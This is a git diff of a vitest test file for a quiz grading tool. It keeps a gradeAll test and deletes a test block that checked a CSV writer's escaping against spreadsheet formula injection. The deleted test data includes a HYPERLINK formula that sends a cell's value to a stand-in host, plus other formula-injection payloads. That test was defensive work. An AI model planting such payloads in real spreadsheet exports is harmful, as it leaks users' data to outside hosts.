@@ -5,7 +5,6 @@ import { pathToFileURL } from "node:url";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { runLocal, type LocalRun } from "../../local/run-local.ts";
 import { sampleGraderConfig } from "../../workflows/jobs.ts";
-import { csvText } from "../../lib/job-output.ts";
 import { gradeAll } from "./grade.ts";
 
 let scratch: string;
@@ -22,21 +21,6 @@ describe("gradeAll", () => {
   it("GIVEN answers with other case and spaces WHEN graded THEN they count; lines that are not submissions are invalid", () => {
     const out = gradeAll({ q1: "b", q2: "paris" }, '{"id":"x","answers":{"q1":" B ","q2":"Rome"}}\nnope\n{"answers":{}}\n');
     expect(out).toEqual({ grades: [{ id: "x", correct: 1, questions: 2, scorePct: 50 }], invalid: 2 });
-  });
-});
-
-describe("csvText (OWASP CSV injection)", () => {
-  it.each([
-    ['=HYPERLINK("http://x.test/?leak="&A1,"click")', `"'=HYPERLINK(""http://x.test/?leak=""&A1,""click"")"`],
-    ["+1+2", "'+1+2"],
-    ["-2+3", "'-2+3"],
-    ["@SUM(A1)", "'@SUM(A1)"],
-    ["\t=1", "'\t=1"],
-    ["\r=1", `"'\r=1"`],
-    ["alice", "alice"],
-    ["a=b", "a=b"],
-  ])("GIVEN the id %j WHEN written THEN it is %s", (id, cell) => {
-    expect(csvText(id)).toBe(cell);
   });
 });
 
